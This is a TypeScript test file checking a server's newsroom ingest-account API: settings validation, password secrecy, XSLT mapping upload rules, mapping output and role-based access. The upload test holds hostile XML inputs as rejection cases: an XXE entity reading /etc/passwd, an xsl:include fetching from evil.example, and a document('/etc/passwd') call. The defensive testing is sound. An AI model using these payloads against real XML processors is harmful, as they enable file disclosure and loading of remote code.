/**
 * Story settings (newsroom sync) against a started server (spec 001 §3, §5 "XSLT only", §7
 * ingestaccount GET, PUT, password, xsltfile, DELETE, test): the account's rules, the mapping
 * upload checked as XSLT without running anything that reads files or the network, the test that
 * shows the stories a mapping yields (each checked like a typed story), and who may.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { join } from 'node:path';
import { call, signIn, startServer, tempDir, type TestServer } from './server-harness.ts';

const NOT_ALLOWED = 'You are not allowed to access this application.';
const BASE = 'v2/admin/inventories/INV-NEWS/ingestaccount';
const XSL = 'http://www.w3.org/1999/XSL/Transform';

const MAPPING = `<?xml version="1.0"?>
<xsl:stylesheet version="1.0" xmlns:xsl="${XSL}">
  <xsl:output method="xml"/>
  <xsl:template match="/">
    <stories>
      <xsl:for-each select="rundown/item">
        <story>
          <slugline><xsl:value-of select="@slug"/></slugline>
          <reporter><xsl:value-of select="reporter"/></reporter>
          <xsl:if test="@kind = 'live'"><comments>Live</comments></xsl:if>
        </story>
      </xsl:for-each>
    </stories>
  </xsl:template>
</xsl:stylesheet>`;

const SAMPLE = `<rundown><item slug="HARBOUR-FIRE" kind="live"><reporter>M. Diallo</reporter></item><item slug="" kind="pkg"><reporter>No slug</reporter></item></rundown>`;

describe('newsroom sync: ingest account, XSLT mapping and its test', () => {
  const tmp = tempDir();
  let server: TestServer;
  let editor: string;
  const upload = (fileName: string, text: string, cookie = editor) =>
    call(server, `${BASE}/xsltfile?fileName=${encodeURIComponent(fileName)}`, { cookie, rawBody: text, headers: { 'content-type': 'application/octet-stream' } });
  beforeAll(async () => {
    server = await startServer({ dbFile: join(tmp.dir, 'luc.db') });
    editor = await signIn(server, 'luc_admin');
  });
  afterAll(async () => {
    await server.close();
    tmp.cleanup();
  });

  it('sets the account with its rules; the password is never answered', async () => {
    expect((await call(server, BASE, { cookie: editor })).json).toMatchObject({ configured: false, pollIntervalS: 60 });
    const refused = await call(server, BASE, { method: 'PUT', cookie: editor, body: { serverUrl: 'ftp://newsroom', username: '', pollIntervalS: 10 } });
    expect([refused.status, refused.json.fields]).toEqual([400, { serverUrl: 'Use an http:// or https:// address', username: 'This field is required', pollIntervalS: 'Must be 30 or more' }]);
    const noAccount = await call(server, `${BASE}/password`, { cookie: editor, body: { password: 'secret' } });
    expect([noAccount.status, noAccount.json.message]).toEqual([404, 'Configuration unavailable']);
    const saved = await call(server, BASE, { method: 'PUT', cookie: editor, body: { serverUrl: 'https://newsroom.example/api', username: 'ingest', pollIntervalS: '120' } });
    expect(saved.json).toMatchObject({ configured: true, enabled: true, serverUrl: 'https://newsroom.example/api', username: 'ingest', pollIntervalS: 120, hasPassword: false });
    const password = await call(server, `${BASE}/password`, { cookie: editor, body: { password: 's3cret-pass' } });
    expect(password.json.hasPassword).toBe(true);
    expect(password.text).not.toContain('s3cret-pass');
  });

  it('takes only an XSLT mapping: refuses other files, DOCTYPEs, file loading and broken XML with our words', async () => {
    const cases: [string, string, string][] = [
      ['mapping.txt', MAPPING, 'Only XSLT files (.xslt or .xsl) can be uploaded'],
      ['m.xsl', `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${MAPPING}`, 'A document type declaration (DOCTYPE) is not allowed in a mapping'],
      ['m.xsl', MAPPING.replace('<xsl:output method="xml"/>', '<xsl:include href="http://evil.example/x.xsl"/>'), 'xsl:include is not allowed: a mapping is one file and may not load others'],
      ['m.xsl', MAPPING.replace('select="reporter"', 'select="document(\'/etc/passwd\')"'), 'document() is not allowed: a mapping reads only the content it is given'],
      ['m.xsl', '<stories><story/></stories>', 'The file is not an XSLT stylesheet: its root must be xsl:stylesheet or xsl:transform in the XSLT namespace'],
      ['m.xsl', MAPPING.replace('</xsl:stylesheet>', ''), 'The file is not well-formed XML: <stylesheet> is not closed at line 15'],
      ['m.xsl', MAPPING.replace('version="1.0" ', ''), 'The stylesheet must say its XSLT version (version="1.0")'],
    ];
    for (const [name, text, message] of cases) {
      const answer = await upload(name, text);
      expect([answer.status, answer.json.message], message).toEqual([400, message]);
    }
    const ok = await upload('rundown.xslt', MAPPING);
    expect(ok.status, ok.text).toBe(200);
    expect(ok.json.xsltFileName).toBe('rundown.xslt');
  });

  it('tests the mapping over sample content: the stories it yields, each checked like a typed story', async () => {
    const answer = await call(server, `${BASE}/test`, { cookie: editor, body: { content: SAMPLE } });
    expect(answer.status, answer.text).toBe(200);
    expect(answer.json.stories).toEqual([
      { story: { slugline: 'HARBOUR-FIRE', crewName: '', usageTerms: '', provider: '', reporter: 'M. Diallo', keywords: '', comments: 'Live' }, errors: {} },
      { story: { slugline: '', crewName: '', usageTerms: '', provider: '', reporter: 'No slug', keywords: '', comments: '' }, errors: { slugline: 'This field is required' } },
    ]);
    const broken = await call(server, `${BASE}/test`, { cookie: editor, body: { content: '<rundown>' } });
    expect([broken.status, broken.json.message]).toEqual([400, 'The sample content is not well-formed XML: <rundown> is not closed at line 1']);
  });

  it('refuses the user types that may not configure stories (spec 001 §6), then removes the account', async () => {
    for (const type of ['luc_read', 'luc_freelancer', 'luc_unit_control']) {
      const cookie = await signIn(server, type);
      const answer = await call(server, BASE, { cookie });
      expect([type, answer.status, answer.json.message]).toEqual([type, 403, NOT_ALLOWED]);
    }
    expect((await call(server, BASE, { method: 'DELETE', cookie: editor })).json).toEqual({ removed: 1 });
    expect((await call(server, BASE, { cookie: editor })).json.configured).toBe(false);
  });
});
